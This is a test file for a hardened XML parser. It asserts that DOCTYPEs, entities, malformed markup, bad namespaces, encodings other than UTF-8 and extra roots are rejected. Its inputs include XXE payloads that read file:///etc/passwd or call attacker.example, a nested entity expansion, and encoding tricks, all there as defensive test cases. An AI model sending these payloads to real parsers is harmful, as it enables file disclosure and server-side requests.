import { describe, expect, it } from 'vitest'
import { outcomeOf, read } from '../../../support/xml-read.ts'

describe('X1 a document with a DOCTYPE', () => {
  it.each([
    ['an internal subset', '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'],
    ['nothing but a name', '<!DOCTYPE a><a/>'],
    ['a system identifier', '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'],
    ['a public identifier', '<!DOCTYPE a PUBLIC "-//x" "https://attacker.example/x.dtd"><a/>'],
    [
      'a parameter entity',
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://attacker.example/">%p;]><a/>',
    ],
    ['an external entity', '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'],
    [
      'entities of entities',
      '<!DOCTYPE a [<!ENTITY x "yyyy"><!ENTITY y "&x;&x;"><!ENTITY z "&y;&y;">]><a>&z;</a>',
    ],
    ['an entity in the ID', '<!DOCTYPE a [<!ENTITY i "_1">]><a ID="&i;"/>'],
    ['a default attribute', '<!DOCTYPE a [<!ATTLIST a ID CDATA "_1">]><a/>'],
    ['a declaration before it', '<?xml version="1.0"?>\n<!DOCTYPE a><a/>'],
    ['a byte order mark before it', '\u{FEFF}<!DOCTYPE a><a/>'],
    ['a comment before it', '<!-- x --><!DOCTYPE a><a/>'],
    ['small letters', '<!doctype a><a/>'],
    ['letters of both cases', '<!DocTypE a [<!ENTITY e "x">]><a/>'],
    ['its place inside of the root', '<a><!DOCTYPE a></a>'],
    ['its place after the root', '<a/><!DOCTYPE a>'],
    ['its place in a comment', '<!-- <!DOCTYPE a> --><a/>'],
    ['its place in a CDATA section', '<a><![CDATA[<!DOCTYPE a>]]></a>'],
    ['its place in an instruction', '<?x <!DOCTYPE a>?><a/>'],
    ['another declaration before it', '<a><!x><!DOCTYPE a></a>'],
    ['no end', '<!DOCTYPE a [<!-- '],
  ])('is refused with %s', (_what, document) => {
    expect(outcomeOf(document)).toBe('doctype')
  })

  it('is refused as UTF-16 and as UTF-7', () => {
    const utf16 = (text: string, littleEndian: boolean) => {
      const bytes = new Uint8Array(2 + text.length * 2)
      const view = new DataView(bytes.buffer)
      view.setUint16(0, 0xfeff, littleEndian)
      for (let index = 0; index < text.length; index++) {
        view.setUint16(2 + index * 2, text.charCodeAt(index), littleEndian)
      }
      return bytes
    }
    const document = '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
    expect(outcomeOf(utf16(document, true))).toBe('not_utf8')
    expect(outcomeOf(utf16(document, false))).toBe('not_utf8')
    // Without the mark it is UTF-8 full of NUL, which XML forbids.
    expect(outcomeOf(utf16(document, true).slice(2))).toBe('not_well_formed')
    const utf7 = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'
    expect(['not_well_formed', 'unsupported_declaration']).toContain(outcomeOf(utf7))
  })

  it('is told from text that talks about one', () => {
    expect(outcomeOf('<a>&lt;!DOCTYPE a&gt; DOCTYPE !DOCTYPE</a>')).toBe('accepted')
    expect(outcomeOf('<a><!-- a --><![CDATA[<!-- b -->]]></a>')).toBe('accepted')
  })
})

describe('X1 an entity reference', () => {
  it.each([
    '<a>&nbsp;</a>',
    '<a>&e;</a>',
    '<a x="&e;"/>',
    '<a>&AMP;</a>',
    '<a>&Lt;</a>',
    '<a>&__proto__;</a>',
    '<a>&constructor;</a>',
    '<a>&toString;</a>',
    '<a>&;</a>',
    '<a>&amp</a>',
    '<a>& </a>',
    '<a>&#;</a>',
    '<a>&#x;</a>',
    '<a>&#X41;</a>',
    '<a>&# 65;</a>',
    '<a>&#65 ;</a>',
    '<a>&#-65;</a>',
    '<a>&#x-41;</a>',
    '<a>&#0;</a>',
    '<a>&#8;</a>',
    '<a>&#xB;</a>',
    '<a>&#xD800;</a>',
    '<a>&#xDFFF;</a>',
    '<a>&#xD83D;&#xDE00;</a>',
    '<a>&#xFFFE;</a>',
    '<a>&#xFFFF;</a>',
    '<a>&#x110000;</a>',
    '<a>&#99999999999999999999;</a>',
    '<a>&amp\n;</a>',
  ])('is refused: %s', (document) => {
    expect(outcomeOf(document)).toBe('not_well_formed')
  })

  it('is resolved if it is one of the five or a number', () => {
    const root = read(
      '<a x="&amp;&lt;&gt;&quot;&apos;&#65;&#x42;">&amp;&lt;&gt;&quot;&apos;&#x1F600;</a>',
    )
    expect(root.attributes[0]?.value).toBe('&<>"\'AB')
    expect(root.children).toEqual([{ kind: 'text', value: '&<>"\'\u{1F600}' }])
  })

  it('is resolved once', () => {
    expect(read('<a>&amp;lt;&#38;amp;</a>').children).toEqual([
      { kind: 'text', value: '&lt;&amp;' },
    ])
  })
})

describe('X2 a document with any fault', () => {
  it.each([
    ['nothing', ''],
    ['white space', ' \n'],
    ['text', 'SAMLResponse'],
    ['a number', '0'],
    ['HTML', '<html><br></html>'],
    ['an unclosed root', '<a>'],
    ['an unclosed child', '<a><b></a>'],
    ['crossed tags', '<a><b></a></b>'],
    ['a closing tag of another letter case', '<a></A>'],
    ['a surplus closing tag', '<a></a></a>'],
    ['an unfinished tag', '<a'],
    ['an unfinished attribute', '<a b="'],
    ['an attribute without a value', '<a b/>'],
    ['an attribute without quotes', '<a b=c/>'],
    ['a repeated attribute', '<a b="1" b="2"/>'],
    ['attributes without white space between', '<a b="1"c="2"/>'],
    ['a raw < in an attribute', '<a b="<"/>'],
    ['a raw & in text', '<a>a & b</a>'],
    ['a raw ]]> in text', '<a>]]></a>'],
    ['an unfinished comment', '<a><!-- </a>'],
    ['-- in a comment', '<a><!-- -- --></a>'],
    ['--- at a comment’s end', '<a><!-- ---></a>'],
    ['an unfinished CDATA section', '<a><![CDATA[ </a>'],
    ['a CDATA section in small letters', '<a><![cdata[x]]></a>'],
    ['an unfinished instruction', '<a><?x </a>'],
    ['an instruction without a name', '<a><? x?></a>'],
    ['an instruction with the name XML', '<a><?XML x?></a>'],
    ['a declaration in the middle', '<a><?xml version="1.0"?></a>'],
    ['a declaration after white space', ' <?xml version="1.0"?><a/>'],
    ['two declarations', '<?xml version="1.0"?><?xml version="1.0"?><a/>'],
    ['a declaration without a version', '<?xml encoding="utf-8"?><a/>'],
    ['a declaration with an empty version', '<?xml version=""?><a/>'],
    ['a declaration in the wrong order', '<?xml encoding="utf-8" version="1.0"?><a/>'],
    ['a declaration with something else', '<?xml version="1.0" x="1"?><a/>'],
    ['a declaration with standalone="maybe"', '<?xml version="1.0" standalone="maybe"?><a/>'],
    ['a name that begins with a digit', '<1a/>'],
    ['a name that begins with a dash', '<-a/>'],
    ['white space before a name', '< a/>'],
    ['an attribute name of a digit', '<a 1="x"/>'],
    ['a NUL', '<a>\0</a>'],
    ['a control character', '<a>\u{1b}</a>'],
    ['a control character in an attribute', '<a b="\u{b}"/>'],
    ['U+FFFE', '<a>\u{fffe}</a>'],
    ['U+FFFF', '<a>\u{ffff}</a>'],
    ['two byte order marks', '\u{FEFF}\u{FEFF}<a/>'],
    [
      'a byte order mark before the declaration and white space',
      '\u{FEFF} <?xml version="1.0"?><a/>',
    ],
    ['an element declaration', '<a><!ELEMENT a ANY></a>'],
    ['an entity declaration', '<!ENTITY e "x"><a/>'],
    ['a slash in a tag', '<a / b="1"></a>'],
    ['a closing tag with an attribute', '<a></a b="1">'],
  ])('is refused: %s', (_what, document) => {
    expect(outcomeOf(document)).toBe('not_well_formed')
  })

  it.each([
    ['a prefix that is not declared', '<p:a/>'],
    ['an attribute prefix that is not declared', '<a p:b="1"/>'],
    ['a prefix beyond its scope', '<a><b xmlns:p="urn:p"/><p:c/></a>'],
    ['the prefix xmlns for an element', '<xmlns:a/>'],
    ['xmlns:xmlns', '<a xmlns:xmlns="http://www.w3.org/2000/xmlns/"/>'],
    ['the prefix xml for another namespace', '<a xmlns:xml="urn:x"/>'],
    ['another prefix for xml’s namespace', '<a xmlns:x="http://www.w3.org/XML/1998/namespace"/>'],
    ['xml’s namespace as the default one', '<a xmlns="http://www.w3.org/XML/1998/namespace"/>'],
    ['a prefix for the namespace of xmlns', '<a xmlns:x="http://www.w3.org/2000/xmlns/"/>'],
    ['the namespace of xmlns as the default one', '<a xmlns="http://www.w3.org/2000/xmlns/"/>'],
    ['an undeclared prefix', '<a xmlns:p="urn:p"><b xmlns:p=""/></a>'],
    ['one attribute under two prefixes', '<a xmlns:p="urn:x" xmlns:q="urn:x" p:b="1" q:b="2"/>'],
    [
      'one attribute under two prefixes, another one behind',
      '<a xmlns:p="urn:x" xmlns:q="urn:x" p:b="1" q:b="2" q:c="3"/>',
    ],
    [
      'one attribute under two prefixes, a third between',
      '<a xmlns:p="urn:x" xmlns:q="urn:x" xmlns:r="urn:r" p:b="1" r:b="1" q:b="2"/>',
    ],
    ['a name with two colons', '<a xmlns:p="urn:p"><p:b:c/></a>'],
    ['a name that begins with a colon', '<:a/>'],
    ['a name that ends with a colon', '<a:/>'],
    ['an attribute name with two colons', '<a xmlns:p="urn:p" p:b:c="1"/>'],
    ['a local name that begins with a digit', '<a xmlns:p="urn:p"><p:1/></a>'],
    ['a local name that begins with a dash', '<a xmlns:p="urn:p"><p:-b/></a>'],
    ['a declared prefix that begins with a digit', '<a xmlns:1="urn:p"/>'],
    ['an attribute xmlns:', '<a xmlns:="urn:p"/>'],
    ['an instruction with a colon', '<a><?p:x y?></a>'],
  ])('is refused: %s', (_what, document) => {
    expect(outcomeOf(document)).toBe('namespace')
  })

  it.each([
    ['one prefix declared twice', '<a xmlns:p="urn:1" xmlns:p="urn:2"/>'],
    ['the default namespace declared twice', '<a xmlns="urn:1" xmlns="urn:2"/>'],
  ])('is refused: %s', (_what, document) => {
    expect(outcomeOf(document)).toBe('not_well_formed')
  })

  it.each([
    ['version 1.1', '<?xml version="1.1"?><a/>'],
    ['version 1.1 with what only it allows', '<?xml version="1.1"?><a>&#x1;</a>'],
    ['version 1.2', '<?xml version="1.2"?><a/>'],
    ['ISO-8859-1', '<?xml version="1.0" encoding="ISO-8859-1"?><a/>'],
    ['UTF-16', '<?xml version="1.0" encoding="UTF-16"?><a/>'],
    ['UTF-8 in another spelling', '<?xml version="1.0" encoding="utf8"?><a/>'],
  ])('is refused where it declares %s', (_what, document) => {
    expect(['unsupported_declaration', 'not_well_formed']).toContain(outcomeOf(document))
  })

  it('is refused where it declares a version or an encoding, and is told so', () => {
    expect(outcomeOf('<?xml version="1.1"?><a/>')).toBe('unsupported_declaration')
    expect(outcomeOf('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')).toBe(
      'unsupported_declaration',
    )
  })

  it.each([
    ['a lone continuation byte', [0x80]],
    ['a truncated sequence', [0xc3]],
    ['an overlong slash', [0xc0, 0xaf]],
    ['an overlong NUL', [0xc0, 0x80]],
    ['an overlong <', [0xe0, 0x80, 0xbc]],
    ['a surrogate', [0xed, 0xa0, 0x80]],
    ['a pair of surrogates', [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80]],
    ['more than U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
    ['a five-byte sequence', [0xf8, 0x88, 0x80, 0x80, 0x80]],
    ['Latin-1', [0xe9]],
  ])('is refused where the text is not UTF-8: %s', (_what, bytes) => {
    expect(outcomeOf(new Uint8Array([0x3c, 0x61, 0x3e, ...bytes, 0x3c, 0x2f, 0x61, 0x3e]))).toBe(
      'not_utf8',
    )
  })
})

describe('X2 a refused document', () => {
  it('leaves nothing behind for the next one', () => {
    const cut = new Uint8Array([0x3c, 0x61, 0x3e, 0xf0, 0x9f])
    for (let round = 0; round < 3; round++) {
      expect(outcomeOf(cut)).toBe('not_utf8')
      expect(read('\u{FEFF}<a>é</a>').children).toEqual([{ kind: 'text', value: 'é' }])
    }
  })
})

describe('X3 a document with more than one root', () => {
  it.each([
    ['a second root', '<a/><b/>', 'not_well_formed'],
    ['a second root after white space', '<a></a>\n<a></a>', 'not_well_formed'],
    ['text after the root', '<a/>x', 'not_well_formed'],
    ['a reference after the root', '<a/>&#32;', 'not_well_formed'],
    ['a CDATA section after the root', '<a/><![CDATA[ ]]>', 'not_well_formed'],
    ['a closing tag after the root', '<a/></a>', 'not_well_formed'],
    ['a comment after the root', '<a/><!-- x -->', 'content_after_root'],
    ['an instruction after the root', '<a/><?x y?>', 'content_after_root'],
    ['text before the root', 'x<a/>', 'not_well_formed'],
    ['no root', '<!-- x -->', 'not_well_formed'],
  ])('is refused: %s', (_what, document, reason) => {
    expect(outcomeOf(document)).toBe(reason)
  })

  it('is told from white space after the root', () => {
    expect(outcomeOf('<a/> \t\r\n ')).toBe('accepted')
  })
})
